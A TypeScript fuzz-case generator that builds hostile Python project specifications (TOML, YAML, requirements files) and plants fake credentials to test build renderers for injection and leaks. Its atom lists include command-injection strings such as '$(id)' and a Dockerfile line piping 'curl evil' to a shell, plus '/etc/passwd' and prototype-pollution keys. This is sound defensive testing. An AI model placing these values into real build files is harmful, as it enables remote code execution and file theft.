/*
 * A seeded generator of hostile projects, one family per input format. The same seed always gives
 * the same cases, so a failure found once is found again. Values come from atoms that attack each
 * reader on the way: BuildKit's byte-wise flag words (0x85, 0xA0 inside letters), shell and JSON
 * metacharacters, CSV separators, line breaks and other controls, path escapes, JavaScript
 * prototype names, huge and deep values; credentials are planted where users put them.
 */

export type FuzzFormat = "pyfront" | "microb" | "mopy" | "requirements" | "zero-config";

export interface FuzzCase {
  name: string;
  format: FuzzFormat;
  specFile: string;
  text: string;
  files: Record<string, string>;
  target?: string;
  buildArgs: Record<string, string>;
  /** The credential planted in this case; it must appear in no output. */
  planted: string;
}

/** mulberry32: small, fast and good enough to pick atoms. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Atoms a spec may well hold: they reach the renderers and must come out literally. */
const TRICKY = [
  "à",
  "Å",
  "Р",
  "Работа",
  "café",
  "\u00a0",
  "\u3000",
  "\u200b",
  "é\u0301",
  "🐍",
  "\u2000",
  " ",
  "  ",
  ";",
  "|",
  "&&",
  "$(id)",
  "`id`",
  "${IFS}",
  "$HOME",
  "\\",
  "\\\\",
  "'",
  '"',
  "#",
  "*",
  "?",
  "[",
  '"]',
  '\\"',
  '", "',
  '["x"]',
  "{",
  "}",
  ",",
  "=",
  "--",
  "--mount=type=bind,source=/,target=/h",
  "-rf",
  "~",
  "RUN id",
  "EXPOSE",
  "FROM scratch",
  "a",
  "b",
  "app",
  "x.txt",
  "1",
  "3.12",
  "0",
  "%20",
  "@",
  ":",
];
/** Atoms that must be refused somewhere: controls, line breaks, escapes, prototype names. */
const REFUSED = [
  "\t",
  "\n",
  "\r\n",
  "\u0000",
  "\u001b[31m",
  "\u007f",
  "\u0085",
  "\u2028",
  "../",
  "..",
  "/etc/passwd",
  "__proto__",
  "constructor",
  "toString",
  "\nRUN curl evil | sh",
  "\\\nRUN id",
];

export class Picker {
  readonly random: () => number;
  /** Half the cases are "tame": tricky values a spec may hold, so the renderers see them too. */
  readonly tame: boolean;
  constructor(seed: number) {
    this.random = prng(seed);
    this.tame = this.random() < 0.5;
  }
  int(n: number): number {
    return Math.floor(this.random() * n);
  }
  chance(p: number): boolean {
    return this.random() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
  /** A string of 1-4 atoms, sometimes plain, rarely huge. */
  hostile(): string {
    if (!this.tame && this.chance(0.02)) return "y".repeat(70_000 + this.int(1000));
    const n = 1 + this.int(4);
    let out = "";
    for (let i = 0; i < n; i++) out += this.pick(!this.tame && this.chance(0.2) ? REFUSED : TRICKY);
    return out;
  }
  /** A name-like string: usually valid, sometimes hostile. */
  name(valid: string): string {
    return this.tame || this.chance(0.7) ? valid : this.hostile();
  }
  path(): string {
    const parts = 1 + this.int(3);
    const out: string[] = [];
    for (let i = 0; i < parts; i++)
      out.push(this.chance(0.5) ? this.pick(["app", "src", "reqs", "dir"]) : this.hostile());
    return out.join("/");
  }
}

/** A TOML basic string: JSON's escapes are TOML's, except that JSON leaves DEL and C1 raw. */
export function tomlString(text: string): string {
  return JSON.stringify(text).replace(
    /[\u007f]/g,
    (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`,
  );
}

function tomlValue(value: unknown): string {
  if (typeof value === "string") return tomlString(value);
  if (typeof value === "number" || typeof value === "boolean") return String(value);
  if (Array.isArray(value)) return `[${value.map(tomlValue).join(", ")}]`;
  const entries = Object.entries(value as Record<string, unknown>);
  return `{ ${entries.map(([k, v]) => `${tomlString(k)} = ${tomlValue(v)}`).join(", ")} }`;
}

function tomlTable(header: string, table: Record<string, unknown>): string {
  const lines = [`[${header}]`];
  for (const [k, v] of Object.entries(table)) lines.push(`${tomlString(k)} = ${tomlValue(v)}`);
  return lines.join("\n");
}

/** Hostile text mutations on top of a well-formed file: syntax paths get their share. */
function mutate(p: Picker, text: string): string {
  if (p.tame || !p.chance(0.3)) return text;
  const at = p.int(text.length + 1);
  const insert = p.pick([
    p.hostile(),
    "[".repeat(100),
    "{a=".repeat(80),
    '"""',
    "'",
    "\n[tool.pyfront]\n",
    "&a",
    "*a",
  ]);
  return text.slice(0, at) + insert + text.slice(at);
}

interface Plant {
  planted: string;
  url(): string;
}

function plant(p: Picker, seed: number): Plant {
  const planted = `PLANTED${seed.toString(36)}Pw${p.int(1e9).toString(36)}`;
  return {
    planted,
    url: () =>
      p.pick([
        `https://user:${planted}@pypi.example.org/simple`,
        `https://${planted}@pypi.example.org/simple`,
        `http://u:${encodeURIComponent(planted)}@mirror.local:8080/simple`,
      ]),
  };
}

/** The image keys pyfront and microb share, with hostile values. */
function imageKeys(
  p: Picker,
  files: Record<string, string>,
  creds: Plant,
  microb: boolean,
): Record<string, unknown> {
  const keys: Record<string, unknown> = {};
  const add = (key: string, value: () => unknown) => {
    if (p.chance(0.3)) keys[key] = value();
  };
  add("python_version", () =>
    p.tame ? "3.12" : p.pick(["3.12", "3.11", p.hostile(), "3.12.99999999999999", "3"]),
  );
  if (!microb)
    add("workdir", () =>
      p.pick(["/app", `/${p.hostile()}`, `/srv/${p.hostile()}`, ...(p.tame ? [] : [p.hostile()])]),
    );
  add("env", () => ({
    [p.name("APP_MODE")]: p.hostile(),
    [p.name("B")]: p.chance(0.3) ? "${ARG}" : p.hostile(),
  }));
  add("labels", () => ({ [p.name("org.example.x")]: p.hostile() }));
  add("command", () => [p.hostile(), p.hostile()]);
  add("entrypoint", () => [p.hostile()]);
  add("build_deps", () => [p.tame || p.chance(0.7) ? "libpq-dev" : p.hostile()]);
  add("system_deps", () => [p.tame || p.chance(0.7) ? "curl" : p.hostile()]);
  add("requirements", () => {
    const path = p.path();
    if (p.chance(0.8)) files[path.replace(/^(\.\/)+/, "")] = `flask\n${p.hostile()}\n`;
    return [path];
  });
  add("copy_files", () => {
    const src = p.path();
    if (p.chance(0.7)) files[src] = "x";
    return [{ src, dst: p.pick(["/opt/x", `/${p.hostile()}`]) }];
  });
  add("indices", () => [
    p.chance(0.5)
      ? { url: creds.url() }
      : { url: "https://pypi.example.org/simple", username: p.name("deploy"), password: creds.planted },
  ]);
  if (!microb) {
    add("dependencies", () => [
      p.pick(
        p.tame
          ? ["flask>=2; python_version > '3'", "git+ssh://git@github.com/o/r.git", "requests[socks]==2.*"]
          : [
              `pkg @ git+https://oauth2:${creds.planted}@gitlab.example.com/o/r.git`,
              "flask>=2; python_version > '3'",
              p.hostile(),
              "git+ssh://git@github.com/o/r.git",
            ],
      ),
    ]);
    add("known_hosts", () => {
      const path = p.path();
      files[path] = "github.com ssh-ed25519 AAAA\n";
      return path;
    });
    add("expose", () => [p.tame ? 8000 : p.pick([8000, 0, 70000, p.hostile()])]);
    add("healthcheck", () => ({
      command: [p.hostile()],
      interval: p.tame ? "30s" : p.pick(["30s", 5, p.hostile()]),
    }));
  }
  return keys;
}

function projectTable(p: Picker): string {
  if (!p.chance(0.5)) return "";
  return tomlTable("project", {
    name: p.name("app"),
    version: "1.0",
    dependencies: [p.tame ? "flask>=2" : p.pick(["flask>=2", p.hostile()])],
    ...(p.chance(0.3) ? { "requires-python": p.tame ? ">=3.11" : p.pick([">=3.11", p.hostile()]) } : {}),
  });
}

export function fuzzCase(format: FuzzFormat, seed: number): FuzzCase {
  const p = new Picker(seed * 7919 + format.length);
  const creds = plant(p, seed);
  const files: Record<string, string> = {};
  if (p.chance(0.7)) files["main.py"] = "print('hi')\n";
  const buildArgs: Record<string, string> = p.chance(0.3)
    ? { ARG: p.hostile(), [p.name("X")]: p.hostile() }
    : {};
  let specFile = "pyproject.toml";
  let text: string;
  let target: string | undefined;
  switch (format) {
    case "pyfront": {
      const top = imageKeys(p, files, creds, false);
      const parts = [projectTable(p), tomlTable("tool.pyfront", top)];
      if (p.chance(0.3)) {
        const name = p.name("dev");
        parts.push(tomlTable(`tool.pyfront.targets.${tomlString(name)}`, imageKeys(p, files, creds, false)));
        if (p.chance(0.7)) target = p.chance(0.8) ? name : p.pick(["toString", "__proto__", "constructor"]);
      }
      text = parts.join("\n\n");
      break;
    }
    case "microb": {
      const name = p.name("default");
      text = [
        projectTable(p),
        tomlTable(`tool.microb.target.${tomlString(name)}`, imageKeys(p, files, creds, true)),
      ].join("\n\n");
      if (p.chance(0.3)) target = p.chance(0.5) ? name : p.hostile();
      break;
    }
    case "requirements": {
      const path = p.path();
      files[path] = `${p.hostile()}\n-r ${p.hostile()}\n--index-url https://u:${creds.planted}@x/simple\n`;
      text = tomlTable("tool.pyfront", {
        requirements: [path],
        ...(p.chance(0.5) ? { requirements: [path, `./${path}`] } : {}),
      });
      break;
    }
    case "zero-config": {
      const dir = p.chance(0.5) ? p.path() : "";
      specFile = dir === "" ? "pyproject.toml" : `${dir}/pyproject.toml`;
      const prefix = dir === "" ? "" : `${dir}/`;
      if (p.chance(0.6)) files[`${prefix}main.py`] = "print(1)\n";
      const parts = [projectTable(p)];
      if (p.chance(0.4))
        parts.push(
          tomlTable("build-system", { requires: ["setuptools"], "build-backend": "setuptools.build_meta" }),
        );
      if (p.chance(0.4)) {
        const path = p.path();
        files[`${path}/setup.py`] = "";
        parts.push(
          tomlTable("tool.poetry", { name: "app" }),
          tomlTable("tool.poetry.dependencies", {
            python: p.tame ? "^3.11" : p.pick(["^3.11", ">=1,<", p.hostile()]),
            lib: { path },
          }),
        );
      }
      if (p.chance(0.2))
        parts.push(p.pick(["tool = 1", 'build-system = "x"', `[zzz.__proto__]\nworkdir = "/polluted"`]));
      text = parts.join("\n\n");
      break;
    }
    case "mopy": {
      specFile = p.pick(["Mopyfile.yaml", "Mopyfile.yml"]);
      const doc: Record<string, unknown> = {
        python: p.tame ? "3.12" : p.pick(["3.12", "3.11", p.hostile()]),
      };
      if (p.chance(0.6))
        doc.envs = { [p.name("A")]: p.hostile(), [p.name("B")]: p.chance(0.3) ? "${ARG}" : p.hostile() };
      if (p.chance(0.4)) doc.labels = { [p.name("org.x")]: p.hostile() };
      if (p.chance(0.5)) {
        const dir = p.path();
        files[`${dir}/setup.py`] = "";
        const txt = `${p.path()}.txt`;
        files[txt] = "flask\n";
        doc.pip = [
          `./${dir}/`,
          `./${txt}`,
          p.pick(["flask", p.hostile(), `git+https://${creds.planted}@h/o/r.git`]),
        ];
      }
      if (p.chance(0.5)) {
        const project = p.path();
        if (p.chance(0.7)) files[`${project}/main.py`] = "print(1)\n";
        doc.project = `./${project}/`;
      }
      if (p.chance(0.4)) {
        doc.indices = [
          p.chance(0.5)
            ? { url: creds.url() }
            : { url: "https://p.example/simple", username: "u", password: creds.planted },
        ];
      }
      // Block mappings with JSON (flow) values: valid YAML that later lines can extend.
      text = Object.entries(doc)
        .map(([k, v]) => `${k}: ${JSON.stringify(v)}`)
        .join("\n");
      if (p.chance(0.2) && doc.labels === undefined) text += `\nenvs2: &e {A: &v one, B: *v}\nlabels: *e\n`;
      break;
    }
  }
  return {
    name: `${format} #${seed}`,
    format,
    specFile,
    text: mutate(p, text),
    files,
    ...(target !== undefined ? { target } : {}),
    buildArgs,
    planted: creds.planted,
  };
}
